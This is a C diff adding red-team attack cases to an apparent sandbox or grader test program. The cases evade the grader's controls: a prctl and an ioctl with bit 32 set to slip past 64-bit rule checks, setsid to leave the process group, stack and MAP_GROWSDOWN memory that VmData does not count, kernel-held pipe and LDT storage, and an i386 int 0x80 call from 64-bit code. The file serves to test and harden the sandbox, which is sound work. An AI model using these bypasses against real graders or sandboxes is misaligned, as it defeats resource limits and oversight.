@@ -22,6 +22,7 @@
 #include <string.h>
 #include <sys/mman.h>
 #include <sys/prctl.h>
+#include <sys/resource.h>
 #include <sys/socket.h>
 #include <sys/syscall.h>
 #include <sys/time.h>
@@ -161,6 +162,20 @@
 #define FILE_FLAGS 47
 #define AIO_MEMORY 48
 #define NEWER_CALL 49
+/* Red-team pass 11: OUTLIVE_WIDE undoes its death with the grader by prctl's option with bit 32
+   set (the kernel reads an int; the rule compared 64 bits); LEAVE_GROUP calls setsid;
+   FLAGS_WIDE sets ATTACK_PATH's no-dump flag by the ioctl request so widened; STACK_STORE raises
+   its stack limit to the hard one and keeps a table 64 MiB below its frame; GROWSDOWN_MEMORY maps
+   64 MiB MAP_GROWSDOWN in a constructor, which VmStk counts and VmData not; PIPE_STORE and
+   LDT_STORE keep data in the kernel; OTHER_ABI makes an i386 call (int 0x80) from 64-bit code. */
+#define OUTLIVE_WIDE 50
+#define LEAVE_GROUP 51
+#define FLAGS_WIDE 52
+#define STACK_STORE 53
+#define GROWSDOWN_MEMORY 54
+#define PIPE_STORE 55
+#define LDT_STORE 56
+#define OTHER_ABI 57
 
 team_t team = {"attack", "Mallory", "mallory", "", ""};
 
@@ -370,6 +385,17 @@ static int capable;
 __attribute__((constructor)) static void note_capabilities(void) { capable = holds_capabilities(); }
 #endif
 
+#if ATTACK == GROWSDOWN_MEMORY
+__attribute__((constructor)) static void grow_down(void) {
+    size_t size = (size_t)64 << 20;
+    char *low = mmap(NULL, size, PROT_READ | PROT_WRITE,
+                     MAP_PRIVATE | MAP_ANONYMOUS | MAP_GROWSDOWN, -1, 0);
+    if (low != MAP_FAILED)
+        for (size_t i = 0; i < size; i += 4096)
+            low[i] = 1;
+}
+#endif
+
 #if ATTACK == CONSTRUCTOR_WRITE
 __attribute__((constructor)) static void before_everything(void) {
     FILE *out = fopen(ATTACK_PATH, "w");
@@ -466,6 +492,34 @@ static void attack(void) {
         *(volatile char *)context = 1; /* the ring: memory past the seal */
 #elif ATTACK == NEWER_CALL
     syscall(469 /* file_setattr */, AT_FDCWD, ATTACK_PATH, NULL, 0, 0);
+#elif ATTACK == OUTLIVE_WIDE
+    syscall(SYS_prctl, (1UL << 32) | PR_SET_PDEATHSIG, 0UL);
+#elif ATTACK == LEAVE_GROUP
+    setsid();
+#elif ATTACK == FLAGS_WIDE
+    int fd = open(ATTACK_PATH, O_RDONLY);
+    long flags = 0x40; /* FS_NODUMP_FL */
+    syscall(SYS_ioctl, fd, (1UL << 32) | 0x40086602UL /* FS_IOC_SETFLAGS */, &flags);
+#elif ATTACK == STACK_STORE
+    struct rlimit most;
+    if (getrlimit(RLIMIT_STACK, &most) == 0) {
+        most.rlim_cur = most.rlim_max;
+        setrlimit(RLIMIT_STACK, &most);
+    }
+    volatile char here = 0;
+    for (size_t down = 4096; down <= (size_t)64 << 20; down += 4096)
+        (&here)[-(ptrdiff_t)down] = 1; /* the kernel grows the stack to it */
+#elif ATTACK == PIPE_STORE
+    int ends[2];
+    if (pipe(ends) == 0 && write(ends[1], "kept", 4) != 4)
+        return;
+#elif ATTACK == LDT_STORE
+    unsigned entry[4] = {0, 0, 0, 0x40}; /* struct user_desc: entry 0, not present */
+    syscall(SYS_modify_ldt, 1, entry, sizeof entry);
+#elif ATTACK == OTHER_ABI
+    long result;
+    __asm__ volatile("int $0x80" : "=a"(result) : "a"(20L) /* i386 getpid */ : "memory");
+    (void)result;
 #elif ATTACK == READ_AND_PRINT
     char secret[256] = {0};
     int fd = open(ATTACK_PATH, O_RDONLY);
